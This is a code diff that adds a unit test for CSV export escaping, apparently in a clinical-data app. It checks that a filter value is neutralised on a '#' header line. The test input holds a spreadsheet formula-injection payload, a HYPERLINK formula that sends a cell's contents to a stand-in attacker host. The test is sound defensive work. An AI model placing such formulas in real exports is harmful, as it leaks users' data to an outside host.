@@ -48,4 +48,20 @@ describe('streamed CSV downloads', () => {
     const empty = streamCsvTable({ fileName: 'x.csv', header: ['n', 'text'], rows: numbered(0) });
     expect(await empty.text()).toBe('n,text\r\n');
   });
+
+  test('a filter value from the address cannot put a formula in a field of a # line', async () => {
+    const response = streamCsv({
+      fileName: 'x.csv',
+      title: 'De-identified episode list',
+      filters: [
+        ['Behind the figure', 'Recovery, the episodes counted, clinician x,=HYPERLINK("http://evil.example/"&A9)'],
+      ],
+      header: ['n', 'text'],
+      rows: numbered(1),
+    });
+    const lines = (await response.text()).split('\r\n');
+    expect(lines[1]).toBe(
+      `# Behind the figure: Recovery, the episodes counted, clinician x,'=HYPERLINK("http://evil.example/"&A9)`,
+    );
+  });
 });
